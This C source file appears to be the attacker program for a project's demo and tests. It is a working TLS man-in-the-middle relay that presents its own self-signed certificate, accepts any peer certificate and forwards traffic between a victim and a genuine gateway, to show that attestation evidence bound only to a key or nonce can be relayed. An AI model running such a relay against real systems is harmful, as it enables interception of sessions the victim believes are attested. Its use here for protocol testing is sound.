/* SPDX-License-Identifier: Apache-2.0 */

/*
 * The attacker of the demo and of the tests: sits between two gateways, ends the TLS session of
 * each with a key of its own, and hands every byte on, so that the genuine machine's evidence
 * reaches the victim in a session that the attacker can read. Whoever binds evidence to a key or a
 * nonce alone falls for it.
 *
 *     relay LISTEN-PORT TARGET-ADDRESS TARGET-PORT
 *
 * Serves one connection after the other, each in a process of its own, until it is ended.
 */

#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <openssl/ssl.h>
#include <openssl/x509.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CHUNK = 16384 };

static void die(const char *what)
{
    fprintf(stderr, "relay: %s\n", what);
    exit(1);
}

static void make_identity(EVP_PKEY **out_key, X509 **out_certificate)
{
    EVP_PKEY *const key = EVP_EC_gen("P-256");
    X509 *const certificate = X509_new();
    if (!key || !certificate)
        die("no key");
    X509_NAME *const name = X509_get_subject_name(certificate);
    X509_set_version(certificate, X509_VERSION_3);
    ASN1_INTEGER_set(X509_get_serialNumber(certificate), 1);
    X509_gmtime_adj(X509_getm_notBefore(certificate), -3600);
    X509_gmtime_adj(X509_getm_notAfter(certificate), 86400);
    X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_ASC, (const unsigned char *)"gateway", -1, -1,
                               0);
    X509_set_issuer_name(certificate, name);
    X509_set_pubkey(certificate, key);
    if (!X509_sign(certificate, key, EVP_sha256()))
        die("no certificate");
    *out_key = key;
    *out_certificate = certificate;
}

static int accept_anyone(int is_fine, X509_STORE_CTX *context)
{
    (void)is_fine, (void)context;
    return 1;
}

/* Takes the victim's first protocol, and keeps it for the other side. */
static int take_alpn(SSL *ssl, const unsigned char **out, unsigned char *out_size,
                     const unsigned char *offered, unsigned offered_size, void *kept)
{
    (void)ssl;
    if (offered_size < 2 || offered[0] >= offered_size)
        return SSL_TLSEXT_ERR_ALERT_FATAL;
    *out = offered + 1;
    *out_size = offered[0];
    memcpy(kept, offered, (size_t)offered[0] + 1);
    return SSL_TLSEXT_ERR_OK;
}

static SSL *new_session(const SSL_METHOD *method, int fd, unsigned char *alpn)
{
    SSL_CTX *const context = SSL_CTX_new(method);
    EVP_PKEY *key = NULL;
    X509 *certificate = NULL;
    make_identity(&key, &certificate);
    if (!context || SSL_CTX_use_certificate(context, certificate) != 1 ||
        SSL_CTX_use_PrivateKey(context, key) != 1)
        die("no TLS context");
    SSL_CTX_set_min_proto_version(context, TLS1_3_VERSION);
    SSL_CTX_set_num_tickets(context, 0);
    SSL_CTX_set_verify(context, SSL_VERIFY_PEER, accept_anyone);
    if (method == TLS_server_method())
        SSL_CTX_set_alpn_select_cb(context, take_alpn, alpn);
    else
        SSL_CTX_set_alpn_protos(context, alpn, alpn[0] + 1U);
    SSL *const ssl = SSL_new(context);
    if (!ssl || SSL_set_fd(ssl, fd) != 1)
        die("no TLS session");
    return ssl;
}

/* Hands on what is there; false at an end. */
static int hand_on(SSL *from, SSL *to)
{
    char chunk[CHUNK];
    do {
        const int size = SSL_read(from, chunk, sizeof chunk);
        if (size <= 0)
            return 0;
        if (SSL_write(to, chunk, size) != size)
            return 0;
    } while (SSL_pending(from));
    return 1;
}

static void serve(int victim_fd, const struct sockaddr_in *target)
{
    unsigned char alpn[256] = {0};
    SSL *const victim = new_session(TLS_server_method(), victim_fd, alpn);
    if (SSL_accept(victim) != 1)
        die("the victim does not shake hands");
    const int genuine_fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(genuine_fd, (const struct sockaddr *)target, sizeof *target) != 0)
        die("the genuine gateway is not there");
    SSL *const genuine = new_session(TLS_client_method(), genuine_fd, alpn);
    if (SSL_connect(genuine) != 1)
        die("the genuine gateway does not shake hands");
    struct pollfd ends[2] = {{victim_fd, POLLIN, 0}, {genuine_fd, POLLIN, 0}};
    while (poll(ends, 2, -1) > 0) {
        if (ends[0].revents && !hand_on(victim, genuine))
            break;
        if (ends[1].revents && !hand_on(genuine, victim))
            break;
    }
    SSL_shutdown(victim);
    SSL_shutdown(genuine);
    close(victim_fd);
    close(genuine_fd);
}

int main(int argc, char **argv)
{
    struct sockaddr_in here = {.sin_family = AF_INET}, target = {.sin_family = AF_INET};
    const int one = 1;
    if (argc != 4 || inet_pton(AF_INET, argv[2], &target.sin_addr) != 1) {
        fprintf(stderr, "usage: relay LISTEN-PORT TARGET-ADDRESS TARGET-PORT\n");
        return 64;
    }
    here.sin_port = htons((uint16_t)strtoul(argv[1], NULL, 10));
    target.sin_port = htons((uint16_t)strtoul(argv[3], NULL, 10));
    signal(SIGCHLD, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    const int listener = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(listener, (struct sockaddr *)&here, sizeof here) != 0 || listen(listener, 16) != 0)
        die("cannot listen");
    for (;;) {
        const int fd = accept(listener, NULL, NULL);
        if (fd < 0)
            continue;
        if (fork() == 0) {
            close(listener);
            serve(fd, &target);
            _exit(0);
        }
        close(fd);
    }
}
